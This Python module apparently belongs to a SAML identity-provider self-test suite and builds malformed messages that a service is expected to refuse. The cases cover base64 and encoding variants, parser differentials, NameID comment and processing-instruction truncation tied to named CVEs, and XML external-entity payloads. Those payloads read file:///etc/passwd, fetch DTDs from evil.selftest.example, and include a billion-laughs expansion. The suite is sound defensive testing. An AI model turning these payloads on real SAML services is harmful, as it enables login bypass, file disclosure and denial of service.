"""Octets and markup that readers disagree about: encodings, DOCTYPE, entities, comments, instructions, CDATA.

Most are put into a message whose signature holds all the same, since a canonical form drops or resolves them. In an
encrypted answer they stand in the plaintext, and once more around the ciphertext.
"""

import base64
import secrets
import zlib
from collections.abc import Callable, Iterator
from dataclasses import replace

from idp.selftest.case import Case
from idp.selftest.responses.answer import fresh
from idp.selftest.responses.making import Row, Setting, World, refused
from idp.selftest.responses.signing import OctetEdit, swap, swap_octets

SPELLING, DIFFERENTIAL, COMMENT, INSTRUCTION, ENTITIES = (
    "spelling of the message",
    "parser differential",
    "comment truncation",
    "processing instruction",
    "external entities",
)


def spelling(world: World) -> Iterator[Case]:
    """One spelling of the parameter, one encoding of the message, and nothing that mends either."""
    settings = (world.response, world.assertion, world.encrypted, world.eidas)
    yield from refused(SPELLING, settings, *_PARAMETERS, *_ENCODINGS)
    yield from refused(SPELLING, world.plain, *_WIDE)


def differential(world: World) -> Iterator[Case]:
    """What one parser reads and another drops, or resolves (Mattermost 2020; ruby-saml, 2025)."""
    yield from _everywhere(world, DIFFERENTIAL, _READERS)


def comments(world: World) -> Iterator[Case]:
    """A comment cuts a text in two, and a reader that takes the first half reads another name."""
    for what, make in _in_texts("<!-- -->").items():
        yield from refused(COMMENT, world.all, (what, "comment", make))
    ends: dict[str, tuple[str, OctetEdit]] = {
        "before-the-message": ("comment", _before("<!-- -->")),
        "after-the-message": ("comment", _after("<!-- -->")),
        "between-elements": ("comment", _before_the_end("<!-- -->")),
    }
    yield from _everywhere(world, COMMENT, ends)


def instructions(world: World) -> Iterator[Case]:
    """A processing instruction that some canonicalisations turned into text, and some parsers drop."""
    for what, make in _in_texts("<?x victim?>").items():
        yield from refused(INSTRUCTION, world.all, (what, "processing_instruction", make))
    signed: Row = ("signed-in-the-name-oneuptime-2988", "processing_instruction", _instruction_signed)
    yield from refused(INSTRUCTION, world.all, signed)
    ends: dict[str, tuple[str, OctetEdit]] = {
        "stylesheet": ("processing_instruction", _before('<?xml-stylesheet href="https://evil.selftest.example/"?>')),
        "after-the-message": ("processing_instruction", _after("<?x?>")),
        "declaration-after-a-blank": ("processing_instruction", _before('\n<?xml version="1.0"?>')),
        "two-declarations": ("processing_instruction", _before('<?xml version="1.0"?><?xml version="1.0"?>')),
    }
    yield from _everywhere(world, INSTRUCTION, ends)


def entities(world: World) -> Iterator[Case]:
    """What would be fetched, or grow."""
    doctypes: dict[str, tuple[str, OctetEdit]] = {
        what: ("doctype", _before(f"<!DOCTYPE r {text}>")) for what, text in _DOCTYPES.items()
    }
    yield from _everywhere(world, ENTITIES, doctypes)
    settings = (world.response, world.assertion, world.encrypted, world.eidas)
    for what, subset in _IN_NAMES.items():
        yield from refused(ENTITIES, settings, (what, "doctype", _named_by(subset)))
    yield from refused(ENTITIES, settings, *_INCLUDED)


def posted(octets: bytes) -> bytes:
    """Octets as the parameter of a POST: what does not begin like XML is taken for one."""
    return base64.b64encode(octets)


def _everywhere(world: World, family: str, edits: dict[str, tuple[str, OctetEdit]]) -> Iterator[Case]:
    """Each edit of a message in the clear, and of the plaintext of an encrypted one; and around ciphertext."""
    for what, (check, edit) in edits.items():
        yield from refused(family, world.each, (what, check, _late(edit)))
        if edit not in _ASSERTION_ALONE:
            yield from refused(family, (world.eidas,), (f"{what}-around", check, _around(edit)))


def _late(edit: OctetEdit) -> Callable[[Setting], bytes]:
    return lambda setting: _as_octets(setting.sent(late=edit))


def _around(edit: OctetEdit) -> Callable[[Setting], bytes]:
    return lambda setting: _as_octets(setting.sent(envelope=edit))


def _as_octets(octets: bytes) -> bytes:
    return octets if octets.startswith(b"<") else posted(octets)


def _before(text: str) -> OctetEdit:
    return lambda octets: text.encode() + octets


def _after(text: str) -> OctetEdit:
    return lambda octets: octets + text.encode()


def _before_the_end(text: str) -> OctetEdit:
    """Right before the last end tag."""
    return lambda octets: octets[: octets.rindex(b"</")] + text.encode() + octets[octets.rindex(b"</") :]


def _of_the_root(attribute: str) -> OctetEdit:
    """An attribute more of the first element."""
    return lambda octets: octets.replace(b" ID=", f" {attribute} ID=".encode(), 1)


def _in_texts(inserted: str) -> dict[str, Callable[[Setting], bytes]]:
    """A good answer with something inserted in a text that says who somebody is, or for whom, after it was signed."""

    def in_name(place: int) -> Callable[[Setting], bytes]:
        def make(setting: Setting) -> bytes:
            answer = setting.good
            name = answer.name_id
            cut = place % (len(name) + 1)
            return setting.sent(answer, late=swap_octets(name, name[:cut] + inserted + name[cut:]))

        return make

    def behind(begin: str) -> Callable[[Setting], bytes]:
        return lambda setting: setting.changed(begin, begin + inserted)

    return {
        "in-the-name-cve-2017-11427": in_name(9),
        "at-the-begin-of-the-name-cve-2017-11428": in_name(0),
        "at-the-end-of-the-name-cve-2017-11429": in_name(-1),
        "in-an-attribute-value-cve-2018-0489": behind("Selftest"),
        "in-the-audience": behind("<saml:Audience>https://"),
        "in-the-level": behind("http://eidas.europa.eu/LoA/"),
    }


def _instruction_signed(setting: Setting) -> bytes:
    """The identity provider signed it itself, since somebody could choose their name."""
    answer = setting.good
    return setting.sent(replace(answer, name_id=f"{answer.name_id}<?x victim?>"))


def _named_by(declarations: str) -> Callable[[Setting], bytes]:
    """The name is an entity, and would be the signed one if it were resolved."""

    def make(setting: Setting) -> bytes:
        answer = setting.good

        def edit(octets: bytes) -> bytes:
            text = octets.decode().replace(f">{answer.name_id}<", ">&who;<")
            return f"<!DOCTYPE r [{declarations.format(name=answer.name_id)}]>{text}".encode()

        return setting.sent(answer, late=edit)

    return make


# -- the parameter and its encoding ----------------------------------------------------------------------------------------


def _parameter(edit: Callable[[str], str]) -> Callable[[Setting], bytes]:
    """The parameter of a good message, edited. White space behind its root makes sure that it has a pad of one sign."""

    def make(setting: Setting) -> bytes:
        octets = setting.sent()
        padded = octets + b"\n" * ((2 - len(octets)) % 3)
        return edit(base64.b64encode(padded).decode()).encode()

    return make


def _octets(edit: OctetEdit) -> Callable[[Setting], bytes]:
    return lambda setting: posted(edit(setting.sent()))


def _declared(declaration: str, encoding: str = "utf-8") -> Callable[[Setting], bytes]:
    return lambda setting: posted((declaration + setting.sent().decode()).encode(encoding))


def _deflated(octets: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(octets) + compressor.flush()


def _last_letter_changed(text: str) -> str:
    """Two bits of the last letter mean nothing: four spellings of the same octets, of which one is taken."""
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return text[:-2] + alphabet[alphabet.index(text[-2]) ^ 1] + "="


_PARAMETERS: tuple[Row, ...] = (
    ("line-breaks-alone", "base64", lambda _: b"".join(secrets.choice((b"\n", b"\r\n")) for _ in range(5_000))),
    ("with-a-blank", "base64", _parameter(lambda text: f"{text[:8]} {text[8:]}")),
    ("with-a-tab", "base64", _parameter(lambda text: f"{text[:8]}\t{text[8:]}")),
    ("with-a-nul", "base64", _parameter(lambda text: f"{text[:8]}\0{text[8:]}")),
    ("in-the-alphabet-of-urls", "base64", _parameter(lambda text: text.replace("+", "-").replace("/", "_"))),
    ("without-padding", "base64", _parameter(lambda text: text.rstrip("="))),
    ("with-more-padding", "base64", _parameter(lambda text: f"{text}==")),
    ("of-another-spelling", "base64", _parameter(_last_letter_changed)),
    ("with-something-behind", "base64", _parameter(lambda text: f"{text}PGE+")),
    ("percent-encoded", "base64", _parameter(lambda text: text.replace("=", "%3D"))),
    ("with-a-letter-that-looks-the-same", "base64", _parameter(lambda text: f"\u0420{text[1:]}")),
    ("in-quotes", "base64", _parameter(lambda text: f'"{text}"')),
    ("as-a-data-url", "base64", _parameter(lambda text: f"data:;base64,{text}")),
    ("encoded-twice", "not_well_formed", _octets(base64.b64encode)),
)
_ENCODINGS: tuple[Row, ...] = (
    ("deflated-cve-2025-25293", "encoding", _octets(_deflated)),
    ("utf-16", "encoding", _declared("", "utf-16")),
    ("byte-order-mark", "encoding", _octets(lambda octets: b"\xef\xbb\xbf" + octets)),
    ("declared-utf-7", "encoding", _declared('<?xml version="1.0" encoding="UTF-7"?>')),
    ("declared-latin-1", "encoding", _declared('<?xml version="1.0" encoding="ISO-8859-1"?>')),
    ("declared-ebcdic", "encoding", _declared('<?xml version="1.0" encoding="IBM037"?>')),
    ("declared-utf-16", "encoding", _declared('<?xml version="1.0" encoding="UTF-16"?>')),
    ("xml-1-1", "encoding", _declared('<?xml version="1.1"?>')),
    ("overlong-octets", "encoding", _octets(lambda octets: octets.replace(b"/metadata<", b"\xc0\xafmetadata<", 1))),
    ("root-of-four-letters", "root", lambda _: f'<evil ID="{fresh("e")}"></evil>'.encode()),
    ("surrogate-octets", "encoding", _octets(lambda octets: octets + b"\xed\xa0\x80")),
)
# Octets that are no UTF-8, since a name in them is not ASCII
_WIDE: tuple[Row, ...] = (
    ("latin-1", "encoding", _declared("", "latin-1")),
    ("utf-16-without-mark", "encoding", _declared("", "utf-16-le")),
)

# -- readers that disagree -------------------------------------------------------------------------------------------------

_SPLIT_VALUE = swap_octets("Selftest<", "<![CDATA[Selftest]]><")
_HIDDEN_VALUE = swap_octets("Selftest<", "Selftest<![CDATA[</saml:AttributeValue><saml:x>]]><")
_DOUBLED = swap_octets('Version="2.0"', 'Version="2.0" Version="2.0"')
# What only an assertion has
_ASSERTION_ALONE: tuple[OctetEdit, ...] = (_SPLIT_VALUE, _HIDDEN_VALUE)
_READERS: dict[str, tuple[str, OctetEdit]] = {
    "doctype-cve-2025-25291": ("doctype", _before("<!DOCTYPE samlp:Response>")),
    "doctype-of-attributes-cve-2025-25292": ("doctype", _before('<!DOCTYPE r [<!ATTLIST r ID ID "_victim">]>')),
    "doctype-of-a-namespace": ("doctype", _before('<!DOCTYPE r [<!ATTLIST r xmlns CDATA "urn:selftest:evil">]>')),
    "doctype-in-small-letters": ("doctype", _before("<!doctype r>")),
    "declaration-of-an-element": ("doctype", _before("<!ELEMENT r ANY>")),
    "notation-inside": ("doctype", _before_the_end('<!NOTATION n SYSTEM "x">')),
    "cdata-in-a-value": ("cdata", _SPLIT_VALUE),
    "markup-in-cdata": ("cdata", _HIDDEN_VALUE),
    "empty-cdata": ("cdata", _before_the_end("<![CDATA[]]>")),
    "second-root": ("not_well_formed", _after("<samlp:Response/>")),
    "text-behind-the-root": ("not_well_formed", _after("x")),
    "nul-behind-the-root": ("not_well_formed", _after("\0")),
    "attribute-twice": ("not_well_formed", _DOUBLED),
    "prefix-without-namespace": ("not_well_formed", _before_the_end("<evil:x/>")),
    "name-that-begins-with-a-colon": ("not_well_formed", _before_the_end("<:x/>")),
    "reference-to-nul": ("not_well_formed", _before_the_end("&#0;")),
    "reference-to-a-control": ("not_well_formed", _before_the_end("&#1;")),
    "end-of-cdata-in-a-text": ("not_well_formed", _before_the_end("]]>")),
    "end-tag-missing": ("not_well_formed", lambda octets: octets[: octets.rindex(b"</")]),
    "entity-that-nobody-declared": ("entity", _before_the_end("&x;")),
    "entity-of-html": ("entity", _before_the_end("&nbsp;")),
    "ampersand": ("entity", _before_the_end("& ")),
    "reference-beyond-unicode": ("entity", _before_the_end("&#x0000000041;")),
    "entity-in-an-attribute": ("entity", _of_the_root('e="&x;"')),
}

# -- entities --------------------------------------------------------------------------------------------------------------

_DOCTYPES = {
    "file-cve-2016-10127": 'SYSTEM "file:///etc/passwd"',
    "address-cve-2026-28809": 'SYSTEM "https://evil.selftest.example/x.dtd"',
    "public-identifier": 'PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"',
    "parameter-entity-cve-2016-10149": '[<!ENTITY % x SYSTEM "https://evil.selftest.example/x.dtd"> %x;]',
    "billion-laughs": '[<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)) + "]",
    "quadratic-growth": f'[<!ENTITY a "{"a" * 20_000}">]',
}
_IN_NAMES = {
    "name-as-an-entity": '<!ENTITY who "{name}">',
    "name-from-a-file": '<!ENTITY who SYSTEM "file:///etc/hostname">',
    "name-of-two-entities": '<!ENTITY a "{name}"><!ENTITY who "&a;">',
}


def _included(xml: str) -> Callable[[Setting], bytes]:
    """An element that is signed, and asks a reader to fetch."""
    return lambda setting: setting.sent(spelled=swap("Selftest<", f"Selftest{xml}<"))


_XINCLUDE = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
_LOCATION = 'xsi:schemaLocation="urn:selftest https://evil.selftest.example/x.xsd"'
_INCLUDED: tuple[Row, ...] = (
    ("xinclude-in-a-value", "text", _included(_XINCLUDE)),
    (
        "schema-location",
        "unknown_attribute",
        lambda setting: setting.sent(replace(setting.good, assertion_more=f" {_LOCATION}")),
    ),
)
